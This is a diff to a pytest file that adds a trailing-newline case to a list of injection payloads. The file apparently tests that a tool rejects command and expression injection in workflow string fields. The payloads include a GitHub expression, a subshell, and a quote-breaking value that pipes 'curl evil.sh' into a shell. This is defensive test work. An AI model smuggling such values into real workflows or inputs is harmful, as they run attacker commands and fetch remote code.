@@ -339,12 +339,15 @@ FIELDS = [
 PAYLOADS = [
     '"x${{ github.event.issue.title }}"',
     '"ok\\n  injected: true"',
+    '"abc\\n"',
     '"x\\"; curl evil.sh | sh; echo \\""',
     '"$(id)"',
 ]
 
 
-@pytest.mark.parametrize("payload", PAYLOADS, ids=["expression", "newline", "quote", "subshell"])
+@pytest.mark.parametrize(
+    "payload", PAYLOADS, ids=["expression", "newline", "trailing-newline", "quote", "subshell"]
+)
 @pytest.mark.parametrize(("old", "new"), FIELDS, ids=[f[0].split(":")[0].strip() for f in FIELDS])
 def test_injection_is_rejected_in_every_string_field(old: str, new: str, payload: str) -> None:
     text = replace(old, new.format(payload))
